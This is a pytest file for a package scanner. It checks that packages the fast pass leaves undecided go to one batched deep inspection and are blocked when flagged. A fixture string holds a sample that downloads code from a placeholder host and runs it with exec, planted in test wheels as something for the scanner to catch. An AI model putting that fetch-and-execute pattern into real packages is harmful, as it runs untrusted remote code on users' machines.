"""What the fast pass leaves open waits for the deep one, which is called once for a whole set and never forgotten."""

from __future__ import annotations

import threading
from dataclasses import replace
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import pytest

from gatekeeper.gate.blobs import Blobs
from gatekeeper.gate.cases import Case, Cases
from gatekeeper.gate.options import Options
from gatekeeper.inspect import judge
from gatekeeper.model import Confidence, Finding, Pending, Release, Ruling, Severity, Surface, Unknown, Verdict, When
from gatekeeper.registries.listing import IndexFile
from tests.support.packages import wheel

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator
    from pathlib import Path

SEVERE = Finding("deep-pattern", Severity.HIGH, Confidence.HIGH, "m", When.COMMAND, "a.py", 1)
CARRIED = """import queue
import urllib.request

waiting = queue.Queue()
waiting.put(urllib.request.urlopen("http://files.example/a").read())
exec(waiting.get())
"""


class Reads:
    """A reader that leaves every file whose name begins with `open` to the deep pass, and refuses it there."""

    def __init__(self) -> None:
        self.batches: list[int] = []
        self.lock = threading.Lock()

    def judge_artifact(
        self, path: Path, blank: Verdict, filename: str, sha256: str, *, later: bool = False, history: object = None
    ) -> tuple[Verdict, Unknown]:
        assert later
        owes = Pending(path, (Surface("a.py", When.IMPORT, "half"),), ())
        pending = owes if filename.startswith("open") else None
        return replace(blank, ruling=Ruling.ALLOW, pending=pending), Unknown("a test")

    def deepen(self, verdicts: Iterable[Verdict]) -> list[Verdict]:
        found = list(verdicts)
        with self.lock:
            self.batches.append(len(found))
        return [replace(one, findings=(SEVERE,), ruling=Ruling.ASK, pending=None) for one in found]


class Ground:
    def __init__(self, folder: Path) -> None:
        self.folder, self.reads = folder, Reads()
        watcher: Any = SimpleNamespace(started=lambda *_: None, judged=lambda *_: None, answer=lambda _: None)
        reader: Any = self.reads
        self.cases = Cases(reader, Blobs(folder / "files"), watcher, Options(store=False))

    def case(self, name: str) -> Case:
        path = self.folder / name
        path.write_text(name, "utf-8")
        upstream: Any = SimpleNamespace(label="here")
        release = Release("npm", name, "1.0.0")
        return self.cases.open(Case(name, release, IndexFile(name, "", local=path), upstream, requested=False))


@pytest.fixture
def ground(tmp_path: Path) -> Iterator[Ground]:
    made = Ground(tmp_path)
    yield made
    made.cases.close()


def test_a_whole_set_costs_one_call(ground: Ground) -> None:
    cases = [ground.case(name) for name in ("open-1", "fine-1", "open-2", "fine-2", "open-3")]
    rulings = [verdict.ruling for verdict in ground.cases.all_found(cases)]
    assert rulings == [Ruling.ASK, Ruling.ALLOW, Ruling.ASK, Ruling.ALLOW, Ruling.ASK]
    assert ground.reads.batches == [3]
    assert [ground.cases.decide(case).ruling for case in cases] == rulings
    assert ground.reads.batches == [3]


def test_a_set_in_which_nothing_is_left_open_costs_none(ground: Ground) -> None:
    assert ground.cases.found(ground.case("fine-1")).ruling is Ruling.ALLOW
    assert ground.reads.batches == []


def test_one_file_takes_along_whatever_waits(ground: Ground) -> None:
    first, second = ground.case("open-1"), ground.case("open-2")
    for case in (first, second):
        ground.cases.first_look(case)
    assert ground.cases.found(first).ruling is Ruling.ASK
    assert ground.cases.found(second).ruling is Ruling.ASK
    assert ground.reads.batches == [2]


def test_a_file_left_open_is_not_handed_out_before_the_set_is_decided(ground: Ground) -> None:
    assert not ground.cases.is_allowed(ground.case("open-1"))
    assert ground.cases.is_allowed(ground.case("fine-1"))
    assert ground.reads.batches == []


def test_many_at_once_are_still_read_once_each(ground: Ground) -> None:
    cases = [ground.case(f"open-{number}") for number in range(12)]
    threads = [threading.Thread(target=ground.cases.decide, args=(case,)) for case in cases]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(10)
    assert sum(ground.reads.batches) == len(cases)
    assert all(case.settled and case.settled.pending is None for case in cases)


def test_a_command_that_runs_at_once_counts_as_unasked_here_too(ground: Ground) -> None:
    ground.cases.starts = frozenset({"open-1"})
    assert ground.cases.found(ground.case("open-1")).ruling is Ruling.BLOCK


def test_inspect_reads_all_targets_deeper_in_one_call(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from gatekeeper.gate.reader import Reader

    batches: list[int] = []
    deepen = Reader.deepen

    def counting(self: Reader, verdicts: Iterable[Verdict]) -> list[Verdict]:
        found = list(verdicts)
        batches.append(sum(one.pending is not None for one in found))
        return deepen(self, found)

    monkeypatch.setattr(Reader, "deepen", counting)
    built = [wheel(f"acme-{number}", files={f"acme_{number}/__init__.py": CARRIED}) for number in range(3)]
    targets = [str(one.write(tmp_path)) for one in (*built, wheel("mossgarden"))]
    watcher: Any = SimpleNamespace(started=lambda *_: None, judged=lambda *_: None, answer=lambda _: None)
    outcome = judge(targets, tmp_path, Options(store=False), watcher)
    assert [verdict.ruling for verdict in outcome.verdicts] == [Ruling.BLOCK] * 3 + [Ruling.ALLOW]
    assert batches == [3]
    assert all(verdict.pending is None for verdict in outcome.verdicts)
